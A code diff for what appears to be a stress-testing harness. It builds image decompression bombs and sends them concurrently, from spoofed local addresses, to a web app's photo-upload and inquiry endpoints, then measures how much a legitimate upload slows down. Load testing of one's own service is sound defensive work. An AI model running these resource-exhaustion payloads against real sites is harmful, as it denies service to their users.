@@ -1,11 +1,12 @@
 // Pictures that are small to send and large to open, and one that is slow to look through.
+import { setTimeout as pause } from 'node:timers/promises'
 import { ask, atOnce, type Attack, type Site } from './site.ts'
 
 const side = 6000
-/** One colour, 36 million pixels: a few kilobytes in each format. */
-async function huge(format: 'avif' | 'webp' | 'png' | 'gif'): Promise<Buffer> {
+/** One colour, by default 36 million pixels: a few kilobytes in each format. */
+async function huge(format: 'avif' | 'webp' | 'png' | 'gif', length = side): Promise<Buffer> {
   const { default: sharp } = await import('sharp')
-  const plain = sharp({ create: { width: side, height: side, channels: 3, background: '#0b645e' } })
+  const plain = sharp({ create: { width: length, height: length, channels: 3, background: '#0b645e' } })
   if (format === 'avif') return plain.avif({ effort: 0, quality: 1 }).toBuffer()
   if (format === 'webp') return plain.webp({ effort: 0, quality: 1 }).toBuffer()
   if (format === 'png') return plain.png({ palette: true, colours: 2, compressionLevel: 9 }).toBuffer()
@@ -17,22 +18,67 @@ function endless(): Buffer {
   bytes.write('\xff\xd8\xff\xe1', 'latin1')
   return bytes
 }
-function send(site: Site, picture: Buffer, from: string, signal: AbortSignal) {
-  const body = Buffer.concat([
-    Buffer.from(
-      '--x\r\ncontent-disposition: form-data; name="man_photo"; filename="a"\r\ncontent-type: image/jpeg\r\n\r\n',
+/** A multipart form of texts and files. */
+const multipart = (fields: Record<string, string>, field: string, files: readonly Buffer[]) =>
+  Buffer.concat([
+    ...Object.entries(fields).map(([name, value]) =>
+      Buffer.from(`--x\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
     ),
-    picture,
-    Buffer.from('\r\n--x--\r\n'),
+    ...files.flatMap((file, at) => [
+      Buffer.from(
+        `--x\r\ncontent-disposition: form-data; name="${field}"; filename="${at}"\r\ncontent-type: image/jpeg\r\n\r\n`,
+      ),
+      file,
+      Buffer.from('\r\n'),
+    ]),
+    Buffer.from('--x--\r\n'),
   ])
-  return ask(site, {
+const type = 'multipart/form-data; boundary=x'
+const send = (site: Site, picture: Buffer, from: string, signal: AbortSignal) =>
+  ask(site, {
     path: '/org/myinfo_photo',
-    body,
-    type: 'multipart/form-data; boundary=x',
+    body: multipart({}, 'man_photo', [picture]),
+    type,
     token: site.token ?? undefined,
     from,
     signal,
   })
+/** Whoever asks for help sends five pictures that take a decoder long, from six addresses; the account sends a photo meanwhile. */
+const strangers: Attack = {
+  name: '6 inquiries of strangers with 5 AVIF each, and a photo of the account',
+  room: 'pictures',
+  needs: 'a token',
+  async ready(site) {
+    const [large, small] = [await huge('avif', 2_200), await huge('png', 200)]
+    const alone = await timed(() => send(site, small, '127.0.17.1', AbortSignal.timeout(10_000)))
+    return async (tally, signal) => {
+      const stop = new AbortController()
+      const leaving = AbortSignal.any([signal, stop.signal])
+      const inquiries = atOnce(6, async (at) => {
+        const fields = {
+          name: 'Attack',
+          email: `attack-${at}@nowhere.example`,
+          mobile: '010-5555-0177',
+          country_code: '82',
+          content: 'Look at this.',
+        }
+        const body = multipart(fields, 'fileup', Array<Buffer>(5).fill(large))
+        const from = `127.0.16.${at + 1}`
+        tally.add((await ask(site, { path: '/etc/regi_question_sys', body, type, from, signal: leaving })).said)
+      })
+      await pause(500, undefined, { signal })
+      const beside = await timed(() => send(site, small, '127.0.17.2', signal))
+      tally.add(beside.answer.said)
+      stop.abort()
+      await inquiries
+      return `the photo took ${beside.ms.toFixed(0)} ms, alone ${alone.ms.toFixed(0)} ms`
+    }
+  },
+}
+async function timed<T>(work: () => Promise<T>): Promise<{ answer: T; ms: number }> {
+  const begun = performance.now()
+  const answer = await work()
+  return { answer, ms: performance.now() - begun }
 }
 const attack = (name: string, count: number, net: number, make: () => Buffer | Promise<Buffer>): Attack => ({
   name,
@@ -52,4 +98,5 @@ export const pictures: Attack[] = [
     attack(`10 ${format.toUpperCase()} of ${side} × ${side} at once`, 10, 10 + at, () => huge(format)),
   ),
   attack('a picture of 9.9 MB of ZIP ends', 1, 15, endless),
+  strangers,
 ]
